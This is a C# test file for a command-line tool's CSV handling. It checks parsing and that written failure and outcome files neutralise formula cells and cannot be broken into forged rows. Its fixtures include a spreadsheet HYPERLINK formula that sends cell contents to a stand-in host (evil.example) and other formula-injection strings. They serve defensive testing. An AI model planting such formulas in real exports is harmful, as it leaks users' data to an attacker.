using System.Text;
using System.Text.Json;
using Contracts.Cli.Accengage;
using Contracts.Cli.Engage;
using Contracts.Cli.Journal;
using Contracts.Cli.Onc;
using Contracts.Cli.Output;
using Contracts.Core.Batching;
using Contracts.Engage;
using Contracts.Sandbox;
using Contracts.Sandbox.Onc;
using Sylvan.Data.Csv;

namespace Contracts.Cli.Tests;

/// <summary>
/// Every CSV notify reads is parsed as CSV (quotes, BOM, ';'), and every CSV it writes survives hostile text: rows
/// cannot be broken and no cell reaches a spreadsheet as a formula.
/// </summary>
[Collection(ProcessEnvironment.Collection)] // runs against a sandbox of its own: no NOTIFY_SANDBOX from another test
public sealed class CsvFileTests : IDisposable
{
    private const string Program = "3e1b9b27-d1f9-4c8d-800f-bb534d6928d6";
    private const string Greeting = "Hello, Ann \"the\" first";
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static readonly string Campaign = OncSandboxOptions.DemoCampaign.ToString();
    private readonly string _directory = Directory.CreateTempSubdirectory("notify-csv-tests").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    private string WriteFile(string name, string content, bool bom = false)
    {
        var path = Path.Combine(_directory, name);
        File.WriteAllText(path, content, new UTF8Encoding(bom));
        return path;
    }

    [Fact]
    public void Quoted_fields_keep_commas_quotes_and_line_breaks_and_a_quoted_number_is_a_number()
    {
        var file = WriteFile("numbers.csv", "# exported by hand\nbNumber,customTrackingId,GREETING\n\"+15018902005\",\"t,1\",\"Hello, Ann \"\"the\"\" first\"\n+14258309029,t-2,\"two\nlines\"\n");

        var destinations = DestinationFile.Read(file).ToList();

        Assert.Equal(2, destinations.Count);
        Assert.Equal(("+15018902005", "t,1", Greeting), (destinations[0].BNumber, destinations[0].CustomTrackingId, destinations[0].Personalization!["GREETING"]));
        Assert.Equal("two\nlines", destinations[1].Personalization!["GREETING"]);
    }

    [Fact]
    public void A_file_of_quoted_numbers_one_per_line_is_read_as_numbers()
    {
        var file = WriteFile("numbers.txt", "\"+15018902005\"\n\n# a comment\n+14258309029,ignored\n");

        Assert.Equal(["+15018902005", "+14258309029"], DestinationFile.Read(file).Select(d => d.BNumber));
    }

    [Fact]
    public void A_BOM_and_semicolons_are_read_by_every_reader()
    {
        var numbers = WriteFile("numbers.csv", "bNumber;GREETING\n+15018902005;\"Hi; Ann\"\n", bom: true);
        var targets = WriteFile("targets.csv", "deviceId;firstname\nUDID-1;\"Ann; \"\"the\"\" first\"\n", bom: true);
        var devices = WriteFile("devices.csv", "deviceId;expireAt\n\"UDID-2\";2030-12-31T23:59:59Z\n", bom: true);
        var contacts = WriteFile("contacts.csv", "sms;text\n\"+15550100001\";\"Hi; Ann\"\n", bom: true);

        var destination = Assert.Single(DestinationFile.Read(numbers));
        var target = Assert.Single(TargetFile.Read(targets));
        var user = Assert.Single(StaticListUserFile.Read(devices, null, null));
        var contact = Assert.Single(ContactFile.Read(contacts, Guid.NewGuid(), retryCount: 0));

        Assert.Equal(("+15018902005", "Hi; Ann"), (destination.BNumber, destination.Personalization!["GREETING"]));
        Assert.Equal(("UDID-1", (object)"Ann; \"the\" first"), (target.DeviceId, target.Data!["firstname"]));
        Assert.Equal(("UDID-2", "2030-12-31T23:59:59.000Z"), (user.DeviceId, user.ExpireAt));
        Assert.Equal(("+15550100001", "Hi; Ann"), (contact.SMSCommInfo!.Destination, contact.SMSCommInfo.TextToSendOverwrite));
    }

    [Fact]
    public void Messages_name_the_line_counting_comments_and_blank_lines()
    {
        var file = WriteFile("devices.csv", "# exported by hand\n\ndeviceId,expireAt\nUDID-1,2030-01-01\nUDID-2,\"not, a date\"\n");

        var error = Assert.Throws<FormatException>(() => StaticListUserFile.Read(file, null, null).ToList());

        Assert.StartsWith("devices.csv:5: expireAt 'not, a date'", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_malformed_quote_is_invalid_input_naming_the_row()
    {
        var file = WriteFile("numbers.csv", "bNumber,GREETING\n+15018902005,\"Hi\"there\n");

        var error = Assert.Throws<FormatException>(() => DestinationFile.Read(file).ToList());

        Assert.Contains("numbers.csv:2", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Quoted_csv_from_a_file_reaches_the_service_byte_exact()
    {
        await using var sandbox = await SandboxServer.StartAsync();
        var file = WriteFile("contacts.csv", "sms,text\n\"+15550100001\",\"Hello, Ann \"\"the\"\" first\nsee you\"\n", bom: true);

        var run = await CliRun.RunAsync("onc", "contacts", "add", "--campaign", Campaign, "-f", file, "--settings", OncSettings(sandbox));

        Assert.Equal(ExitCodes.Success, run.ExitCode);
        await using var client = sandbox.CreateOncClient();
        var stored = Assert.Single(await client.GetCampaignContactsAsync(OncSandboxOptions.DemoCampaign), c => c.Id != OncSandboxOptions.DemoContact);
        Assert.Equal(("+15550100001", Greeting + "\nsee you"), (stored.SMSCommInfo!.Destination, stored.SMSCommInfo.TextToSendOverwrite));
    }

    [Fact]
    public async Task Quoted_personalization_and_a_quoted_number_are_pushed()
    {
        var file = WriteFile("numbers.csv", "bNumber;customTrackingId;GREETING\n\"+15018902005\";\"t;1\";\"Hello, Ann \"\"the\"\" first\"\n");

        var run = await CliRun.RunAsync("engage", "push", "-f", file, "--program", Program, "--anumber", "+5014008029", "--json", "--sandbox");

        Assert.Equal(ExitCodes.Success, run.ExitCode);
        Assert.Equal(1, run.Json.GetProperty("accepted").GetInt64());
    }

    [Fact]
    public async Task Failures_file_rows_cannot_be_broken_and_hold_no_formula()
    {
        // A bNumber that is a formula, with a comma, quotes and a line break: rejected, and its reason (the contract's
        // rule) does not show it, as it shows no person's number.
        var file = WriteFile("numbers.csv", $"bNumber\n\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)},\nnext\"\n-1+1\n@SUM(A1)\n+15018902005\n");
        var failures = Path.Combine(_directory, "failures.csv");

        var run = await CliRun.RunAsync("engage", "push", "-f", file, "--program", Program, "--anumber", "+15559999999", "--json", "--failures", failures, "--sandbox");

        Assert.Equal(ExitCodes.VendorError, run.ExitCode); // the unowned aNumber: ENGAGE refused the push
        var rows = ReadBack(failures, columns: 6);
        Assert.Equal(["bNumber", "outcome", "kind", "errorCode", "requestId", "reason"], rows[0]);
        Assert.Equal(5, rows.Count); // the header and every destination once
        Assert.Equal("'" + Formula + ",\nnext", rows[1][0]);
        Assert.StartsWith("bNumber does not match the contract's pattern", rows[1][5], StringComparison.Ordinal);
        Assert.DoesNotContain("HYPERLINK", rows[1][5], StringComparison.Ordinal);
        Assert.Equal(["'-1+1", "'@SUM(A1)", "'+15018902005"], rows.Skip(2).Select(r => r[0]));
        // The file can be fed back: the neutralised number reads as the number.
        Assert.Equal("+15018902005", DestinationFile.Read(failures).Last().BNumber);
    }

    [Fact]
    public void Vendor_text_in_a_failures_file_is_quoted_and_neutralised()
    {
        var failures = Path.Combine(_directory, "failures.csv");
        var failure = new BatchFailure(BatchFailureKind.VendorRejected, Formula + ",\r\n\"forged\",row", errorCode: "+1", requestId: "@req\nid");

        using (var file = new FailuresFile(failures))
            file.Add(new BatchChunkResult<Destination>(0, [new Destination { BNumber = "+15018902005" }, new Destination { BNumber = "\t=1" }], BatchItemOutcome.Rejected, failure, "@req\nid"));

        var rows = ReadBack(failures, columns: 6);
        Assert.Equal(3, rows.Count);
        Assert.Equal(["'+15018902005", "Rejected", "VendorRejected", "'+1", "'@req\nid", "'" + Formula + ",\r\n\"forged\",row"], rows[1]);
        Assert.Equal("'\t=1", rows[2][0]);
    }

    [Fact]
    public async Task Outcomes_file_rows_cannot_be_broken_and_hold_no_formula()
    {
        var file = WriteFile("contacts.csv", $"sms,email,retryCount\n+15550100001,,\n\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",\"@evil, \"\"x\"\"\nnext\",\n+15550100003,,300\n");
        var outcomes = Path.Combine(_directory, "outcomes.csv");

        var run = await CliRun.RunAsync("onc", "contacts", "add", "--campaign", Campaign, "-f", file, "--outcomes", outcomes, "--json", "--sandbox");

        Assert.NotEqual(ExitCodes.InvalidInput, run.ExitCode);
        // The journal: item, id, sms, voice, email, outcome, kind, errorCode, requestId, reason; an item's last row is its outcome.
        var rows = FinalRows(ReadBack(outcomes, columns: 10));
        Assert.Equal(3, rows.Count);
        Assert.Contains(rows, r => r[2] == "'+15550100001" && r[5] == "Accepted");
        Assert.Contains(rows, r => r[2] == "'" + Formula && r[4] == "'@evil, \"x\"\nnext");
        Assert.Contains(rows, r => r[2] == "'+15550100003" && r[5] == "Rejected" && r[9].Contains("RetryCount", StringComparison.Ordinal));
    }

    [Fact]
    public void Vendor_text_in_a_run_journal_is_quoted_and_neutralised()
    {
        var outcomes = Path.Combine(_directory, "outcomes.csv");
        var id = Guid.NewGuid().ToString();

        using (var journal = new RunJournal(outcomes, append: false, "sha256:00", "onc contacts add", ["id", "sms", "voice", "email"]))
            journal.Completed([(1, [id, "+15550100001", null, null])], BatchItemOutcome.Rejected, new BatchFailure(BatchFailureKind.VendorRejected, "-2+3\n,\"", errorCode: "=1"), "@req");

        var row = ReadBack(outcomes, columns: 10)[2];
        Assert.Equal(["1", id, "'+15550100001", "", "", "Rejected", "VendorRejected", "'=1", "'@req", "'-2+3\n,\""], row);
    }

    /// <summary>The run journal's final row of each item: its last row (the Run row that opens each run has no item).</summary>
    internal static List<string[]> FinalRows(List<string[]> journal)
        => journal.Skip(1).Where(r => r[0].Length > 0).GroupBy(r => r[0]).Select(item => item.Last()).ToList();

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+15018902005", "'+15018902005")]
    [InlineData("-5", "'-5")]
    [InlineData("@cmd", "'@cmd")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("Hello, =1", "Hello, =1")]
    [InlineData("", "")]
    public void Neutralise_prefixes_only_cells_a_spreadsheet_reads_as_formulas(string cell, string written)
        => Assert.Equal(written, CsvOutput.Neutralise(cell));

    private string OncSettings(SandboxServer sandbox)
    {
        var path = Path.Combine(_directory, "settings.json");
        File.WriteAllText(path, JsonSerializer.Serialize(new
        {
            Onc = new { BaseUrl = sandbox.OncBaseUrl, sandbox.Options.Onc.AccountId, sandbox.Options.Onc.UserName, sandbox.Options.Onc.Password },
        }));
        return path;
    }

    // Reads a written file back as a spreadsheet would parse it (Sylvan, RFC 4180): every row has the header's column
    // count, and no cell starts with a formula character unless it is the quote-prefixed, neutralised form.
    /// <summary>The rows of a file notify wrote, each checked: one cell per column, none a formula.</summary>
    internal static List<string[]> ReadBack(string path, int columns)
    {
        using var reader = CsvDataReader.Create(path, new CsvDataReaderOptions { HasHeaders = false, Delimiter = ',' });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            Assert.Equal(columns, reader.RowFieldCount);
            var row = Enumerable.Range(0, reader.RowFieldCount).Select(reader.GetString).ToArray();
            Assert.All(row, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"unneutralised cell: {cell}"));
            rows.Add(row);
        }
        return rows;
    }
}
